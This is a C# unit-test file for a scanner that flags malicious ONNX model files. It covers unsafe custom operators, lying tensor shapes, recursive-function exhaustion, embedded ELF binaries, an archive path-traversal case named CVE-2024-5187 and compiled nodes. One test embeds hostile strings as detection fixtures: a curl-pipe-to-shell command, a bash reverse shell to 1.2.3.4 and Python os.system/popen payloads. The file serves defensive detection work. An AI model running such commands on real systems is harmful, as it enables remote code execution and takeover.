using SupplyChainAnalyzers.Core.Findings;
using SupplyChainAnalyzers.Core.Formats;
using SupplyChainAnalyzers.Scanner.Tests.Formats.Protobuf;
using SupplyChainAnalyzers.Scanner.Tests.Scanning;
using static SupplyChainAnalyzers.Scanner.Tests.Formats.Onnx.OnnxBytes;

namespace SupplyChainAnalyzers.Scanner.Tests.Formats.Onnx;

public sealed class OnnxScannerTests
{
    public static TheoryData<string> Real => [.. Directory.GetFiles(Folder, "*.onnx").Select(static path => Path.GetFileName(path))];

    private static string Folder => Path.Combine(AppContext.BaseDirectory, "Samples", "onnx");

    [Theory]
    [MemberData(nameof(Real))]
    public void Real_model_is_clean(string name)
    {
        var scanned = Scanned.Bytes(File.ReadAllBytes(Path.Combine(Folder, name)), name);
        Assert.True(scanned.Verdict == Verdict.Clean && scanned.Format == ModelFormats.Onnx, scanned.ToString());
    }

    [Theory]
    [InlineData("Conv BatchNormalization Relu MaxPool GlobalAveragePool Flatten Gemm Softmax", "")]
    [InlineData("MatMul Add LayerNormalization Gelu Split Transpose Reshape Where Erf Gather Attention RotaryEmbedding RMSNormalization", "")]
    [InlineData("LSTM GRU Squeeze Slice Concat Loop Scan If NonMaxSuppression TopK Resize RoiAlign", "")]
    [InlineData("QLinearConv DequantizeLinear QuantizeLinear DynamicQuantizeLinear MatMulInteger", "ai.onnx")]
    [InlineData("TreeEnsembleRegressor Scaler LabelEncoder ZipMap SVMClassifier LinearClassifier", "ai.onnx.ml")]
    [InlineData("Attention SkipLayerNormalization EmbedLayerNormalization FusedMatMul BiasGelu MatMulNBits GroupQueryAttention QAttention", "com.microsoft")]
    [InlineData("Conv ReorderInput ReorderOutput", "com.microsoft.nchwc")]
    [InlineData("Adam Gradient", "ai.onnx.preview.training")]
    public void Operators_of_ordinary_models_are_clean(string operators, string domain)
    {
        var scanned = Scan(Model(Graph([.. operators.Split(' ').Select(operation => Node(operation, domain))])));
        Assert.True(scanned.Verdict == Verdict.Clean, scanned.ToString());
    }

    [Theory]
    [InlineData("PyOp", "ai.onnx.contrib")]
    [InlineData("PythonOp", "com.microsoft")]
    [InlineData("SystemCommand", "evil")]
    [InlineData("ReadFile", "")]
    [InlineData("OpenAIAudioToText", "com.microsoft.extensions")]
    public void Operator_that_reaches_beyond_the_model_is_malicious(string operation, string domain)
    {
        var scanned = Scan(Model(Graph(Node("Relu"), Node(operation, domain))));
        Assert.Equal(Verdict.Malicious, scanned.Verdict);
        Assert.Contains($"node 'n1' ({operation})", scanned.Findings[0].Message, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("Frobnicate", "com.example")]
    [InlineData("Frobnicate", "")]
    [InlineData("relu", "")]
    [InlineData("Relu", "AI.ONNX")]
    [InlineData("Frobnicate", "com.microsoft")]
    [InlineData("ATen", "org.pytorch.aten")]
    [InlineData("EfficientNMS_TRT", "trt.plugins")]
    public void Operator_from_elsewhere_is_suspicious(string operation, string domain)
    {
        var scanned = Scan(Model(Graph(Node(operation, domain))));
        Assert.True(scanned.Verdict == Verdict.Suspicious && scanned.Doubts.Single() == Rules.CustomOperator, scanned.ToString());
    }

    [Fact]
    public void Many_nodes_of_one_unknown_operator_are_one_finding() =>
        Assert.Single(Scan(Model(Graph([.. Enumerable.Range(0, 50).Select(static _ => Node("X", "y"))]))).Findings);

    [Fact]
    public void Operator_that_the_model_defines_itself_is_judged_by_its_body()
    {
        byte[] Call(string inner) => [.. Model(Graph(Node("F", "local"))), .. new ProtoBuilder().Message(25, Function("local", "F", Node(inner))).Bytes];

        Assert.Equal(Verdict.Clean, Scan(Call("Relu")).Verdict);
        Assert.Equal(Verdict.Malicious, Scan(Call("PyOp")).Verdict);
    }

    [Fact]
    public void Last_name_of_an_operator_counts()
    {
        var node = Node("Relu").Text(4, "PyOp").Text(7, "evil");
        Assert.Equal(Verdict.Malicious, Scan(Model(Graph(node))).Verdict);
    }

    [Fact]
    public void Functions_that_call_each_other_without_end_are_malicious()
    {
        byte[] model = [.. Model(Graph(Node("A", "l"))), .. new ProtoBuilder().Message(25, Function("l", "A", Node("B", "l"))).Message(25, Function("l", "B", Node("If", "", Attribute("then_branch", 6, Graph(Node("A", "l")))))).Bytes];
        Assert.Contains(Rules.ResourceExhaustion, Scan(model).Doubts);
    }

    [Fact]
    public void Functions_that_double_with_every_call_are_malicious()
    {
        var model = new ProtoBuilder().Raw(Model(Graph(Node("F0", "l"))));
        for (var i = 0; i < 60; i++)
            model.Message(25, Function("l", $"F{i}", Node($"F{i + 1}", "l"), Node($"F{i + 1}", "l")));
        Assert.Contains(Rules.ResourceExhaustion, Scan(model.Bytes).Doubts);
    }

    [Fact]
    public void Long_chain_of_functions_is_clean()
    {
        var model = new ProtoBuilder().Raw(Model(Graph(Node("F0", "l"))));
        for (var i = 0; i < 5000; i++)
            model.Message(25, Function("l", $"F{i}", Node(i == 4999 ? "Relu" : $"F{i + 1}", i == 4999 ? "" : "l")));
        Assert.Equal(Verdict.Clean, Scan(model.Bytes).Verdict);
    }

    [Theory]
    [InlineData(1, 16, "2,2")]
    [InlineData(10, 8, "2,2")]
    [InlineData(22, 2, "3")]
    [InlineData(26, 1, "4")]
    [InlineData(1, 0, "0,7")]
    [InlineData(1, 4, "")]
    public void Data_as_long_as_its_shape_is_clean(int type, int bytes, string shape) =>
        Assert.Equal(Verdict.Clean, Scan(Model(Graph().Message(5, Tensor(type, Dimensions(shape)).Data(9, new byte[bytes])))).Verdict);

    [Theory]
    [InlineData(1, 15, "2,2")]
    [InlineData(7, 16, "4")]
    [InlineData(1, 16, "-4")]
    [InlineData(1, 16, "4611686018427387904,4")]
    [InlineData(1, 0, "1099511627776,1099511627776")]
    public void Shape_that_lies_is_malicious(int type, int bytes, string shape)
    {
        var scanned = Scan(Model(Graph().Message(5, Tensor(type, Dimensions(shape)).Data(9, new byte[bytes]))));
        Assert.True(scanned.Verdict == Verdict.Malicious && scanned.Doubts.Contains(Rules.TensorSizeLie), scanned.ToString());
    }

    [Fact]
    public void Text_that_reads_like_a_command_is_suspicious()
    {
        byte[][] models =
        [
            ModelWith(14, Entry("notes", "import os; os.system('id')")),
            Model(Graph(Node("Relu", "", Attribute("a", "curl http://1.2.3.4/x | sh")))),
            Model(Graph().Text(10, "__import__('os').popen('id')eval(1)")),
            Model(Graph().Message(5, Tensor(8, 1).Text(6, "bash -i >& /dev/tcp/1.2.3.4/99 0>&1"))),
        ];
        Assert.All(models, static model => Assert.NotEqual(Verdict.Clean, Scan(model).Verdict));
    }

    [Fact]
    public void Notes_of_exporters_are_clean()
    {
        const string Trace = "File \"/home/kim/.local/lib/python3.10/site-packages/transformers/models/bert/modeling_bert.py\", line 12, in forward\n    x = self.dense(x)\n";
        const string Old = "/root/.cache/torch/hub/ultralytics_yolov5_master/models/common.py(56): forward\n/root/miniconda3/lib/python3.9/site-packages/torch/nn/modules/module.py(1488): _slow_forward\n";
        var node = Node("Relu").Text(6, Old).Message(9, Entry("pkg.torch.onnx.stack_trace", Trace)).Message(9, Entry("namespace", "bert/encoder: transformers.models.bert.BertEncoder/layer.0"));
        var scanned = Scan(Model(Graph(node).Text(10, Trace)));
        Assert.True(scanned.Verdict == Verdict.Clean, scanned.ToString());
    }

    [Fact]
    public void Bytes_that_belong_to_no_field_are_not_clean()
    {
        Assert.NotEqual(Verdict.Clean, Scan([.. Model(Graph(Node("Relu"))), 0, 0, 0, 0]).Verdict);
        Assert.NotEqual(Verdict.Clean, Scan(ModelWith(99, new ProtoBuilder())).Verdict);
        Assert.NotEqual(Verdict.Clean, Scan(Model(Graph(Node("Relu").Number(4, 1)))).Verdict);
    }

    [Fact]
    public void Program_as_a_tensor_is_malicious()
    {
        byte[] program = [0x7F, .. Samples.Text("ELF"), 2, 1, 1, .. new byte[9], 3, 0, 62, 0, 1, 0, 0, 0, .. new byte[104]];
        Assert.Contains(Rules.EmbeddedExecutable, Scan(Model(Graph().Message(5, Tensor(2, program.Length).Data(9, program)))).Doubts);
    }

    [Fact]
    public void CVE_2024_5187_archive_of_a_model_that_climbs_is_malicious() =>
        Assert.Equal(Verdict.Malicious, Scanned.Bytes(Samples.TarOf(("model.onnx", Samples.Onnx), ("../../.bashrc", Samples.Text("x"))), "model.tar").Verdict);

    [Theory]
    [InlineData("0", "../../ctx.bin", Verdict.Malicious)]
    [InlineData("1", "compiled", Verdict.Unscannable)]
    public void Compiled_network_is_never_clean(string mode, string content, Verdict verdict)
    {
        var node = Node("EPContext", "com.microsoft", new ProtoBuilder().Text(1, "embed_mode").Number(3, mode[0] - '0'), Attribute("ep_cache_context", content));
        Assert.Equal(verdict, Scan(Model(Graph(node))).Verdict);
    }

    private static long[] Dimensions(string shape) => [.. shape.Split(',', StringSplitOptions.RemoveEmptyEntries).Select(static part => long.Parse(part, System.Globalization.CultureInfo.InvariantCulture))];

    private static Scanned Scan(byte[] model) => Scanned.Bytes(model, "model.onnx");
}
